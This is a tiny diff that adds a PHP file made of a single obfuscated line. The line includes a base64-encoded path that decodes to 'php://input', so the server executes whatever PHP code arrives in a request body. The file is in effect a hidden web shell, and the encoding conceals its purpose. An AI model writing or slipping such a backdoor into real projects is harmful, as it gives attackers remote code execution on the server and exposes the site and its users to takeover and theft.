@@ -1,0 +1,2 @@
+<?php
+include base64_decode('cGhwOi8vaW5wdXQ=');
